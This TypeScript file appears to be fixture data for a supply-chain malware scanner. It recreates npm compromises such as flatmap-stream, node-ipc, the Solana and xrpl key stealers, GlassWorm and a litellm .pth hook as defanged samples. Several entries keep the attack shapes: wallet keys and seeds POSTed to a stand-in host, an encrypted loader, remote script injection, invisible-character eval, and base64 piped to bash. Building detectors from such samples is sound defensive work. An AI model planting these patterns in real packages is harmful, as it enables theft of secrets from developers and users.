import { HONEST, obfuscated, type Recreation } from './recreation.js';

const BLANKS = ' '.repeat(400);
/** Invisible characters that each stand for a byte, as GlassWorm writes them. */
const INVISIBLE = Array.from('inert', (letter) =>
  String.fromCodePoint(0xfe00 + (letter.charCodeAt(0) & 0xf)),
).join('');

/** Folders, a host and a country, each decoded by itself; their use is left out. */
const HIDDEN_WORDS = `const path = require("path"), fs = require("fs"), https = require("https");
setTimeout(function () {
  const host = Buffer.from("aHR0cHM6Ly9nZW8uZXhhbXBsZS5pbnZhbGlk", "base64");
  https.get(host.toString("utf8"), function (answer) {
    answer.on("data", function (data) {
      const here = Buffer.from("Li8=", "base64");
      const above = Buffer.from("Li4v", "base64");
      const field = Buffer.from("Y291bnRyeV9uYW1l", "base64");
      const country = Buffer.from("bm93aGVyZQ==", "base64");
      const found = JSON.parse(data.toString("utf8"))[field.toString("utf8")];
      if (found.includes(country.toString("utf8"))) console.log(here.toString("utf8"), above.toString("utf8"));
    });
  });
}, 1000);
`;

/** Campaigns that ran when the package was loaded, without anything at install. */
export const RUN_TIME_CODE: readonly Recreation[] = [
  {
    campaign: 'event-stream-2018',
    name: 'flatmap-stream',
    version: '0.1.1',
    files: {
      'index.js': HONEST,
      'index.min.js':
        "var r=require,t=process;try{var n=r('./test/data'),o=t.env.npm_package_description;var u=r('crypto').createDecipher('aes256',o),a=u.update(n[0],'hex','utf8');a+=u.final('utf8');var f=new module.constructor;f.paths=module.paths;f._compile(a,'');f.exports(n[1])}catch(e){}",
      'test/data.js': "module.exports = ['00', '11'];\n",
    },
    shape: ['code/decode-and-execute', 'code/runs-decoded'],
  },
  {
    campaign: 'electron-native-notify-2019',
    name: 'electron-native-notify',
    version: '1.1.6',
    files: {
      'index.js': `${HONEST}setTimeout(() => require('https').get('https://keys.example.invalid/update'), 1000);\n`,
    },
    shape: [],
  },
  {
    campaign: 'colors-faker-2022',
    name: 'colors',
    version: '1.4.1',
    files: {
      'lib/index.js': `${HONEST}let am = require('../lib/custom/american');\nam();\nfor (let i = 666; i < Infinity; i++) {\n  console.log('testing');\n}\n`,
      'lib/custom/american.js': "module['exports'] = function americanFlag() {};\n",
    },
    shape: [],
  },
  {
    campaign: 'node-ipc-2022',
    name: 'node-ipc',
    version: '10.1.1',
    files: {
      'dao/ssl-geospec.js': HIDDEN_WORDS,
      'node-ipc.js': HONEST,
    },
    shape: ['code/encoded-words'],
  },
  {
    campaign: 'ledger-connect-kit-2023',
    name: '@ledgerhq/connect-kit',
    version: '1.1.7',
    files: {
      'dist/umd/index.js': `${HONEST}(function(){var s=document.createElement('script');s.src='https://cdn.example.invalid/x.js';document.head.appendChild(s)})();\n`,
    },
    shape: [],
  },
  {
    campaign: 'solana-web3-2024',
    name: '@solana/web3.js',
    version: '1.95.7',
    files: {
      'lib/index.cjs.js': `${HONEST}const seen = new Set();\nfunction addToQueue(key) {\n  const text = key.toString('hex');\n  if (seen.has(text)) return;\n  seen.add(text);\n  fetch('https://keys.example.invalid/api/rpc/queue', { method: 'POST', headers: { 'x-session-id': text.slice(0, 32) } }).catch(() => {});\n}\n`,
    },
    shape: [],
  },
  {
    campaign: 'xrpl-2025',
    name: 'xrpl',
    version: '4.2.4',
    files: {
      'dist/npm/Wallet/index.js': `${HONEST}const validSeeds = new Set([]);\nfunction checkValidityOfSeed(seed) {\n  if (validSeeds.has(seed)) return;\n  validSeeds.add(seed);\n  fetch('https://keys.example.invalid/check', { method: 'POST', headers: { 'ad-referral': seed } });\n}\n`,
    },
    shape: [],
  },
  {
    campaign: 'rand-user-agent-2025',
    name: 'rand-user-agent',
    version: '2.0.83',
    files: {
      'dist/index.js': `${HONEST.trimEnd()}${BLANKS}global['x']=require;(function(){var a='inert';})();\n`,
    },
    shape: ['code/off-screen', 'code/gives-away-require'],
  },
  {
    campaign: 'qix-2025',
    name: 'chalk',
    version: '5.6.1',
    files: { 'source/index.js': `${HONEST}${obfuscated()}\n` },
    shape: ['code/hidden-act'],
  },
  {
    campaign: 'glassworm-2025',
    name: '@example/invisible',
    version: '1.0.1',
    files: {
      'index.js': `const decode = (s) => [...s].map((c) => { const p = c.codePointAt(0); return p >= 0xfe00 && p <= 0xfe0f ? p - 0xfe00 : p >= 0xe0100 && p <= 0xe01ef ? p - 0xe0100 + 16 : null; });\neval(Buffer.from(decode(\`${INVISIBLE.repeat(20)}\`)).toString('utf8'));\n`,
    },
    shape: ['code/invisible-decoder', 'code/invisible-text'],
  },
  {
    campaign: 'velora-dex-2026',
    name: '@velora-dex/sdk',
    version: '9.4.1',
    files: {
      'dist/index.js': `'use strict'\nconst { exec } = require('child_process');\nexec(\`echo 'ZWNobyBpbmVydCBwYXlsb2FkIG9mIGEgdGVzdA==' | (base64 --decode 2>/dev/null || base64 -D) | bash\`, () => {});\n${HONEST}`,
    },
    shape: ['code/decoded-shell'],
  },
  {
    campaign: 'node-ipc-2026',
    name: 'node-ipc',
    version: '9.1.6',
    files: { 'node-ipc.cjs': `${HONEST}${obfuscated()}\n` },
    shape: ['code/hidden-act'],
  },
  {
    campaign: 'dydx-2026',
    name: '@dydxprotocol/v4-client-js',
    version: '3.4.1',
    files: {
      'build/index.js': `${HONEST}function createRegistry(words) {\n  fetch('https://keys.example.invalid/prices', { method: 'POST', body: words });\n}\n`,
    },
    shape: [],
  },
  {
    campaign: 'denonia-2022',
    name: '@example/beside-denonia',
    version: '1.0.0',
    files: { 'index.js': HONEST },
    application: { python: '\u007fELF inert' },
    shape: ['install/disguised-program'],
  },
  {
    campaign: 'litellm-2026',
    name: '@example/beside-litellm',
    version: '1.0.0',
    files: { 'index.js': HONEST },
    application: {
      'litellm_init.pth':
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"cGFzcw==\"))'])\n",
      'litellm/__init__.py': '',
    },
    shape: ['python/startup-code'],
  },
];
